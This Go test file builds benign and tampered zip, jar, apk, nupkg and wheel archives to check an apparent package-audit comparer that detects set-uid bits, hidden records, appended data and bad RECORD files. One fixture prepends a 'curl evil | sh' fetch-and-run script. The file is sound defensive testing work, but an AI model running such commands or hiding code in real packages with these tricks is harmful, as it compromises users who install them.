package compare_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"io"
	"io/fs"
	"testing"
	"time"

	"github.com/proffer-audit/proffer/audit/compare"
	"github.com/proffer-audit/proffer/reports"
)

type zipEntry struct {
	header  zip.FileHeader
	content []byte
}

func zipFile(name string, mode fs.FileMode, content []byte) zipEntry {
	h := zip.FileHeader{Name: name, Method: zip.Deflate, Modified: time.Unix(1700000000, 0).UTC()}
	h.SetMode(mode)
	return zipEntry{h, content}
}

func zipOf(t testing.TB, level int, entries ...zipEntry) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	w.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, level) })
	for _, e := range entries {
		h := e.header
		f, err := w.CreateHeader(&h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(e.content); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func commented(t testing.TB, b []byte, comment string) []byte {
	t.Helper()
	c := append(bytes.Clone(b), comment...)
	c[len(b)-2], c[len(b)-1] = byte(len(comment)), byte(len(comment)>>8)
	return c
}

func zipPairs(t testing.TB) []pair {
	s := seed(2)
	base := []zipEntry{zipFile("agent/main.js", 0o644, s.text(4000)), zipFile("agent/run.sh", 0o755, s.text(900)), zipFile("agent/data.bin", 0o644, s.bytes(500))}
	plain := zipOf(t, 6, base...)
	one := func(i int, f func(e *zipEntry)) []byte {
		list := append([]zipEntry{}, base...)
		f(&list[i])
		return zipOf(t, 6, list...)
	}
	extra := func(id byte) func(e *zipEntry) {
		return func(e *zipEntry) { e.header.Extra = []byte{id, 0x99, 4, 0, 'e', 'v', 'i', 'l'} }
	}
	stored := one(0, func(e *zipEntry) { e.header.Method = zip.Store })
	jar := []zipEntry{zipFile("META-INF/MANIFEST.MF", 0o644, []byte("Manifest-Version: 1.0\r\n\r\n")), base[0]}
	signed := append([]zipEntry{}, jar...)
	signed = append(signed, zipFile("META-INF/ACME.SF", 0o644, s.text(200)), zipFile("META-INF/ACME.RSA", 0o644, s.bytes(300)))
	apk := []zipEntry{zipFile("AndroidManifest.xml", 0o644, s.bytes(400)), zipFile("classes.dex", 0o644, s.bytes(2000))}
	nupkg := []zipEntry{zipFile("agent.nuspec", 0o644, s.text(300)), zipFile("lib/net8.0/agent.dll", 0o644, s.bytes(1500))}
	return []pair{
		benign("zip times", reports.EqualNormalised, one(1, func(e *zipEntry) { e.header.Modified = time.Unix(1800000000, 0).UTC() }), plain),
		benign("zip order", reports.EqualNormalised, zipOf(t, 6, base[2], base[0], base[1]), plain),
		benign("zip compression level", reports.EqualNormalised, zipOf(t, 1, base...), plain),
		benign("zip stored", reports.EqualNormalised, stored, plain),
		benign("nupkg times", reports.EqualNormalised, zipOf(t, 9, nupkg...), zipOf(t, 1, nupkg...)),
		hidden("zip set-uid", one(1, func(e *zipEntry) { e.header.SetMode(0o755 | fs.ModeSetuid) }), plain, compare.SetID),
		hidden("zip prepended script", append([]byte("#!/bin/sh\ncurl evil | sh\nexit\n"), plain...), plain, compare.Prepended),
		planted("zip appended", append(bytes.Clone(plain), "payload"...), plain, compare.Appended),
		planted("zip executable bit", one(0, func(e *zipEntry) { e.header.SetMode(0o755) }), plain, compare.Permission),
		planted("zip comment", commented(t, plain, "cHdu"), plain, compare.Comment),
		planted("zip member comment", one(0, func(e *zipEntry) { e.header.Comment = "cHdu" }), plain, compare.Comment),
		planted("zip extra field", one(0, extra(0x77)), plain, compare.ExtraField),
		planted("zip duplicate", zipOf(t, 6, append(base, zipFile("agent/run.sh", 0o755, s.text(900)))...), plain, compare.Duplicate),
		planted("zip added member", zipOf(t, 6, append(base, zipFile("agent/extra.js", 0o644, s.text(90)))...), plain, compare.AddedMember),
		planted("zip stream slack", slack(t, plain, base[0].header.Name), plain, compare.HiddenData),
		planted("zip unlisted record", unlisted(t, base, plain), plain, compare.HiddenData),
		planted("zip local header with another name", with(plain, bytes.Index(plain, []byte("agent/run.sh")), []byte("agent/rum.sh")...), plain, compare.Ambiguous),
		planted("zip encrypted flag in one header", with(plain, 6, plain[6]|0x40), plain),
		planted("zip content", one(0, func(e *zipEntry) { e.content = append(bytes.Clone(e.content), "evil()"...) }), plain),
		hidden("jar without signature files", zipOf(t, 6, jar...), zipOf(t, 6, signed...), compare.DroppedSigned),
		planted("jar executable bit", zipOf(t, 6, jar[0], func() zipEntry { e := jar[1]; e.header.SetMode(0o755); return e }()), zipOf(t, 6, jar...), compare.Permission),
		planted("apk unknown block", apkBlock(t, zipOf(t, 6, apk...), 0x1234abcd, s.bytes(40)), zipOf(t, 6, apk...), compare.ForeignSigned),
		planted("apk added library", zipOf(t, 6, append(apk, zipFile("lib/arm64-v8a/libhook.so", 0o644, s.bytes(300)))...), zipOf(t, 6, apk...), compare.AddedMember),
		planted("nupkg added script", zipOf(t, 6, append(nupkg, zipFile("tools/install.ps1", 0o644, s.text(200)))...), zipOf(t, 6, nupkg...), compare.AddedMember),
	}
}

// splice puts bytes into a zip file before an offset and moves what stands after
// it, in the directory and in the end record.
func splice(t testing.TB, b []byte, at int, insert []byte) []byte {
	t.Helper()
	out := append(append(bytes.Clone(b[:at]), insert...), b[at:]...)
	end := bytes.LastIndex(out, []byte("PK\x05\x06"))
	add := func(p int) {
		v := int(out[p]) | int(out[p+1])<<8 | int(out[p+2])<<16 | int(out[p+3])<<24
		if v >= at {
			v += len(insert)
			out[p], out[p+1], out[p+2], out[p+3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
		}
	}
	add(end + 16)
	dir := int(out[end+16]) | int(out[end+17])<<8 | int(out[end+18])<<16
	for p := dir; p < end; {
		add(p + 42)
		p += 46 + int(out[p+28]) + int(out[p+30]) + int(out[p+32])
	}
	return out
}

// slack lengthens the packed content of a member by bytes after its stream.
func slack(t testing.TB, b []byte, name string) []byte {
	t.Helper()
	local := bytes.Index(b, []byte(name)) - 30
	stop := bytes.Index(b, []byte("PK\x07\x08"))
	out := splice(t, b, stop, []byte("payload!"))
	dir := bytes.Index(out, []byte("PK\x01\x02"))
	for _, p := range []int{dir + 20, bytes.Index(out, []byte("PK\x07\x08")) + 8} {
		out[p] += 8
	}
	if local < 0 || stop < 0 {
		t.Fatal("the zip has no record of " + name)
	}
	return out
}

// unlisted puts a local record into a zip that its directory does not list.
func unlisted(t testing.TB, base []zipEntry, plain []byte) []byte {
	t.Helper()
	more := zipOf(t, 6, zipFile("agent/hidden.js", 0o644, base[0].content[:200]))
	return splice(t, plain, bytes.Index(plain, []byte("PK\x01\x02")), more[:bytes.Index(more, []byte("PK\x01\x02"))])
}

// apkBlock puts a signing block with one pair before the directory.
func apkBlock(t testing.TB, b []byte, id uint32, value []byte) []byte {
	t.Helper()
	u64 := func(n int) []byte { return []byte{byte(n), byte(n >> 8), byte(n >> 16), 0, 0, 0, 0, 0} }
	one := append(u64(4+len(value)), byte(id), byte(id>>8), byte(id>>16), byte(id>>24))
	one = append(one, value...)
	size := u64(len(one) + 24)
	block := append(append(append(bytes.Clone(size), one...), size...), "APK Sig Block 42"...)
	return splice(t, b, bytes.Index(b, []byte("PK\x01\x02")), block)
}

func wheelPairs(t testing.TB) []pair {
	s := seed(3)
	code, meta := s.text(2000), s.text(300)
	row := func(name string, b []byte) string {
		sum := sha256.Sum256(b)
		return fmt.Sprintf("%s,sha256=%s,%d\n", name, base64.RawURLEncoding.EncodeToString(sum[:]), len(b))
	}
	wheel := func(level int, code []byte, record string) []byte {
		return zipOf(t, level, zipFile("agent/__init__.py", 0o644, code), zipFile("agent-1.0.dist-info/METADATA", 0o644, meta),
			zipFile("agent-1.0.dist-info/RECORD", 0o644, []byte(record)))
	}
	const self = "agent-1.0.dist-info/RECORD,,\n"
	a, b := row("agent/__init__.py", code), row("agent-1.0.dist-info/METADATA", meta)
	plain := wheel(6, code, a+b+self)
	wrong := row("agent/__init__.py", append(bytes.Clone(code), 'x'))
	return []pair{
		benign("wheel order of RECORD", reports.EqualNormalised, wheel(6, code, b+a+self), plain),
		benign("wheel compression", reports.EqualNormalised, wheel(9, code, b+a+self), plain),
		hidden("wheel wrong RECORD", wheel(6, code, wrong+b+self), plain, compare.WrongRecord),
		planted("wheel file not in RECORD", wheel(6, code, b+self), plain, compare.WrongRecord),
		planted("wheel RECORD of nothing", wheel(6, code, a+b+row("agent/ghost.py", code)+self), plain, compare.WrongRecord),
	}
}
